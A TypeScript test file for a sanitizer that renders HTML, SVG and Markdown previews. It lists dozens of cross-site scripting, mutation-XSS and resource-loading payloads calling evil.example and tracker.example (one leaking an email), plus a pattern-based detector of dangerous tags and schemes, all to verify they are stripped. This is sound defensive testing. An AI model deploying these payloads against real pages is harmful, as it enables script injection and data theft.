import { parse } from 'parse5';
import { describe, expect, it } from 'vitest';
import { previewPolicy, safePreview } from '../../../src/pipeline/preview/safePreview.ts';

const page = (body: string) => `<!doctype html><html><head><title>x</title></head><body>${body}</body></html>`;
const svg = (body: string) =>
	`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">${body}</svg>`;

interface Node {
	readonly tagName?: string;
	readonly attrs?: readonly { readonly name: string; readonly value: string }[];
	readonly childNodes?: readonly Node[];
	readonly value?: string;
}

/** Every element that a browser makes of a text. */
const elementsOf = (node: Node): Node[] => [...(node.tagName ? [node] : []), ...(node.childNodes ?? []).flatMap(elementsOf)];

/** What could run, load or lead away. */
function dangersIn(html: string): string[] {
	const found: string[] = [];
	for (const { tagName = '', attrs = [], childNodes = [] } of elementsOf(parse(html) as Node)) {
		const name = tagName.toLowerCase();
		if (/^(?:script|iframe|frame|object|embed|base|link|form|video|audio|source|template|foreignobject|math|portal)$/.test(name))
			found.push(name);
		if (name === 'meta' && attrs.some(({ value }) => /refresh/i.test(value))) found.push('refresh');
		for (const { name: attribute, value } of attrs) {
			if (/^on/i.test(attribute)) found.push(attribute);
			if (/^(?:title|content)$/.test(attribute)) continue;
			if (value.startsWith('http://www.w3.org/')) continue;
			if (/(?:https?:|^\s*\/\/|javascript:|vbscript:|command:|vscode:|file:|data:text)/i.test(value)) found.push(`${attribute}=${value}`);
		}
		const css = name === 'style' ? childNodes.map(({ value = '' }) => value).join('') : '';
		if (/https?:|@import|\/\/[a-z]/i.test(css)) found.push(css);
	}
	return found;
}

const hostileHtml: readonly string[] = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<img src="https://tracker.example/p.gif?u={{email}}">',
	'<img srcset="//tracker.example/a 1x">',
	'<a href="javascript:alert(1)">x</a>',
	'<a href=" jAvA\tscript:alert(1)">x</a>',
	'<a href="command:workbench.action.terminal.new">x</a>',
	'<a href="vscode://evil/run" target=_blank ping="https://evil.example">x</a>',
	'<a href="data:text/html,<script>1</script>">x</a>',
	'<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>1</script>"></iframe>',
	'<form action="https://evil.example"><input name=a><button formaction="https://evil.example/b">go</button></form>',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<base href="https://evil.example/"><img src="a.png">',
	'<link rel=stylesheet href="https://evil.example/a.css"><link rel=preload href="//evil.example">',
	'<style>@import url("https://evil.example/a.css"); p { background: url(https://evil.example/b) }</style>',
	'<style>@import "//evil.example/c"; @font-face { src: url(https://evil.example/f) }</style>',
	'<style>p { background: \\75rl(https://evil.example/d) } q { background: image-set("https://evil.example/e" 1x) }</style>',
	'<p style="background:url(&quot;//evil.example/f&quot;)">x</p>',
	'<p style="background:u\\72l(https://evil.example/g)">x</p>',
	'<table background="https://evil.example/h"><tr><td background="//evil.example/i">x</table>',
	'<video src="https://evil.example/j" poster="https://evil.example/k"></video><audio src="//evil.example"></audio>',
	'<object data="https://evil.example/l"></object><embed src="https://evil.example/m">',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
	'<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
	'<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	'<template><script>alert(1)</script></template>',
	'<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
	'<input type=image src="https://evil.example/n" autofocus onfocus=alert(1)>',
	'<body onload=alert(1)><details open ontoggle=alert(1)>x</details>',
	'<pre class="mermaid">graph TD; A-->B; click A "javascript:alert(1)"</pre>',
	'<!--><script>alert(1)</script>-->',
	'<select><style></select><img src=x onerror=alert(1)></style>',
];

const hostileSvg: readonly string[] = [
	'<script>alert(1)</script><script xlink:href="https://evil.example/a.js"/>',
	'<image href="https://evil.example/p.png" width="1" height="1"/>',
	'<image xlink:href="//evil.example/p.png"/>',
	'<use href="https://evil.example/s.svg#a"/>',
	'<a xlink:href="javascript:alert(1)"><text>x</text></a>',
	'<a href="#"><set attributeName="href" to="javascript:alert(1)"/><animate attributeName="xlink:href" values="javascript:alert(1)"/></a>',
	'<set attributeName="onmouseover" to="alert(1)"/>',
	'<rect onload="alert(1)" fill="url(https://evil.example/x#g)" width="9" height="9"/>',
	'<foreignObject><iframe src="https://evil.example"/><img src=x onerror=alert(1)></foreignObject>',
	'<style>@import "https://evil.example/a.css"; rect { fill: url("//evil.example/f#x") }</style>',
	'<filter id="f"><feImage href="https://evil.example/z.png"/></filter>',
	'<style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>',
	'<desc><![CDATA[</desc><script>alert(1)</script>]]></desc>',
];

describe('safePreview', () => {
	it.each(hostileHtml)('row 59: nothing of this page runs, loads or leads away: %s', (body) => {
		expect(dangersIn(safePreview({ path: 'a.html', content: page(body) }))).toEqual([]);
		expect(dangersIn(safePreview({ path: 'a.html', content: body }))).toEqual([]);
	});

	it.each(hostileSvg)('row 59: nothing of this drawing runs, loads or leads away: %s', (body) => {
		expect(dangersIn(safePreview({ path: 'a.svg', content: svg(body) }))).toEqual([]);
	});

	it.each([
		'![x](https://tracker.example/p.png?d=1)',
		'[x](javascript:alert(1)) [y](command:quintet.land) [z](https://evil.example)',
		'<img src=x onerror=alert(1)>\n\n<script>alert(1)</script>',
		'```mermaid\ngraph TD; click A "javascript:alert(1)"\n```',
	])('row 59: nothing of this text runs, loads or leads away: %s', (content) => {
		expect(dangersIn(safePreview({ path: 'a.md', content }))).toEqual([]);
	});

	it('shows its policy before anything else in the head', () => {
		for (const [path, content] of Object.entries({ 'a.html': page('<p>x'), 'a.svg': svg(''), 'a.md': '# x', 'a.py': 'x' })) {
			const html = safePreview({ path, content });
			expect(html).toMatch(
				new RegExp(`<head><meta http-equiv="Content-Security-Policy" content="${previewPolicy}"><meta charset="utf-8">`),
			);
		}
	});

	it('keeps what a design is made of', () => {
		const html = safePreview({
			path: 'a.html',
			content: page(
				'<style>p { color: red; background: url(data:image/png;base64,AAAA) }</style><p style="margin:0">Tea</p><img alt="Leaf" src="data:image/png;base64,AAAA"><a href="#top">Up</a><a href="https://tea.example">Tea</a><form><label>Name <input></label></form>',
			),
		});
		for (const kept of [
			'color: red',
			'url(data:image/png;base64,AAAA)',
			'margin:0',
			'alt="Leaf"',
			'href="#top"',
			'title="Leads to: https://tea.example"',
			'<input>',
		])
			expect(html).toContain(kept);
		const drawing = safePreview({
			path: 'a.svg',
			content: svg('<title>Tea</title><defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="9" height="9"/><use href="#g"/>'),
		});
		for (const kept of ['viewBox="0 0 9 9"', 'linearGradient', 'url(#g)', 'href="#g"']) expect(drawing).toContain(kept);
		expect(safePreview({ path: 'a.md', content: '---\na: b\n---\n| a | b |\n|---|---|\n| 1 | 2 |' })).toContain('<td>1</td>');
	});

	it('shows code as its text', () => {
		expect(safePreview({ path: 'a.ts', content: '<script>alert(1)</script>' })).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
	});
});
